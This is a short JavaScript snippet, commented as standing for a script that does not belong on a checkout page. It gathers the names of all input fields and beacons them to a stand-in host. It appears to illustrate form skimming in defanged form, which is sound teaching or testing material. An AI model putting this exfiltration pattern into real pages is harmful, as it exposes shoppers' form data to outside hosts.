// Stands for a script that does not belong on a checkout. It reads no field: it only reports, by a beacon, that it could.
(() => {
  const fields = [...document.querySelectorAll("input")].map((input) => input.name).join(",");
  navigator.sendBeacon("https://metrics.example.net/m", fields);
})();
